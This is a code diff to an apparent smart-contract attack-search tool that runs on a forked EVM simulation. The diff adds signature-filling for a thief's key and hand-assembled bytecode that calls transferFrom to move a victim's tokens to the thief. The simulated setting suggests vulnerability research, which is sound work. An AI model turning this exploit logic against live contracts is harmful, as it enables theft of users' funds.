@@ -1,5 +1,5 @@
 import type { CallFrame, Log } from '../../evm/inspector.js'
-import { type Address, type Hex, toPaddedHex, ZERO_ADDRESS } from '../../hex.js'
+import { type Address, type Hex, hexToBytes, toPaddedHex, ZERO_ADDRESS } from '../../hex.js'
 import type { Fork } from '../../simulation/scenario.js'
 import { type Holding, PERMIT2 } from './assets.js'
 import { type Leads, type PullLead, readLeads } from './leads.js'
@@ -26,6 +26,8 @@ export interface AttackOptions {
   thief: Address
   /** What the target asked for when it was called with the marks. */
   leads: Leads
+  /** Signs whatever the target asks a signature of. */
+  signer?: Uint8Array
 }
 
 /** What a victim lost. */
@@ -77,18 +79,20 @@ function attackHere(fork: Fork, options: AttackOptions): AttackResult | undefine
   const values = [...marks]
   /** Leaves that have been given a meaning. */
   const given = new Set<number>()
-  const stage: Stage = { fork, options, values, given, met: new Map() }
+  const stage: Stage = { fork, options, values, given, met: new Map(), pulledBy: new Set() }
   let leads: Leads = options.leads
   let result: AttackResult | undefined
   for (let pass = 0; pass < MAX_PASSES; pass += 1) {
-    const isChanged = [...giveRoles(stage, leads), ...giveSignatures(stage, leads)].includes(true)
+    const signed = [...giveSignatures(stage, leads), ...signLeads(values, leads, options.signer)]
+    const isChanged = [...giveRoles(stage, leads), ...signed].includes(true)
     if (!isChanged) break
     const attempt = { from: caller, to: target, data: dataOf(entry, values), value }
     const outcome = play(fork, attempt)
     const losses = lossesOf(outcome, [...victim.holdings, ...stage.met.values()], values)
     leads = readLeads(outcome.trace, target, bytesIn(values))
     const permits = acceptedPermits(fork, leads.permits, victim.address)
-    result = { outcome, attempt, losses, permits, isExecutor: leads.executors.length > 0 }
+    const isExecutor = leads.executors.length > 0 || stage.pulledBy.size > 0
+    result = { outcome, attempt, losses, permits, isExecutor }
     if (losses.length > 0) break
   }
   return result
@@ -101,6 +105,10 @@ interface Stage {
   given: Set<number>
   /** Tokens that the target has fixed, now among what the victim owns. */
   met: Map<Address, Holding>
+  /**
+   * Accounts with code of ours that takes from the victim, which the target is to run as its own.
+   */
+  pulledBy: Set<Address>
 }
 
 /**
@@ -117,11 +125,12 @@ function put({ values, given }: Stage, mark: bigint, value: bigint): boolean {
   return isChanged
 }
 
-function giveRoles(stage: Stage, { pulls, executors, permits }: Leads): boolean[] {
+function giveRoles(stage: Stage, { pulls, executors, delegates, permits }: Leads): boolean[] {
   return [
     ...permits.map((frame) => givePermitRoles(stage, frame)),
     ...pulls.map((pull) => givePullRoles(stage, pull, permits.length > 0)),
     ...executors.map(({ to, input, value }) => giveCall(stage, BigInt(to), input, value)),
+    ...delegates.map((to) => givePullingCode(stage, to)),
   ]
 }
 
@@ -254,6 +263,48 @@ function giveCall(stage: Stage, to: bigint, input: Hex, value: bigint): boolean 
   replace(stage.values, input, data)
   if (value > 0n) replace(stage.values, value, 0n)
   return hasTarget
+}
+
+/** Has code that the caller names take a token of the victim's. Whether the caller names it. */
+function givePullingCode({ fork, options, values, pulledBy }: Stage, to: Address): boolean {
+  const { victim, thief } = options
+  const [holding] = victim.holdings
+  if (holding === undefined || pulledBy.has(to) || !values.includes(BigInt(to))) return false
+  pulledBy.add(to)
+  fork.evm.setCode(to, pullingCode(holding.token, [BigInt(victim.address), BigInt(thief), portionOf(holding)]))
+  return true
+}
+
+/** Calls `transferFrom` of the token with these words, and answers whether that went through. */
+function pullingCode(token: Address, words: readonly bigint[]): Uint8Array {
+  const stores = [BigInt(TRANSFER_FROM) << 224n, ...words].map((word, i) => {
+    const at = i === 0 ? 0 : 4 + (i - 1) * 32
+    return `7f${toPaddedHex(word, 32).slice(2)}60${at.toString(16).padStart(2, '0')}52`
+  })
+  return hexToBytes(`0x${stores.join('')}5f5f60645f5f73${token.slice(2)}5af15f5260205ff3`)
+}
+
+/**
+ * Puts signatures by `key` where the target looked for one, as words or as bytes. Whether anything
+ * changed.
+ */
+export function signLeads(values: (bigint | Hex)[], { signatures }: Leads, key: Uint8Array | undefined): boolean[] {
+  if (key === undefined) return []
+  return signatures.map((lead) => {
+    const { v, r, s, bytes } = signDigest(lead.digest, key)
+    const packed = values.findIndex((value) => typeof value === 'string' && value.startsWith(toPaddedHex(lead.r, 32)))
+    if (packed < 0) {
+      const pairs = [
+        [lead.r, r],
+        [lead.s, s],
+        [lead.v, v],
+      ] as const
+      return pairs.map(([mark, value]) => replace(values, mark, value)).includes(true)
+    }
+    if (values[packed] === bytes) return false
+    values[packed] = bytes
+    return true
+  })
 }
 
 /** What the victim has less of, and who has it now. */
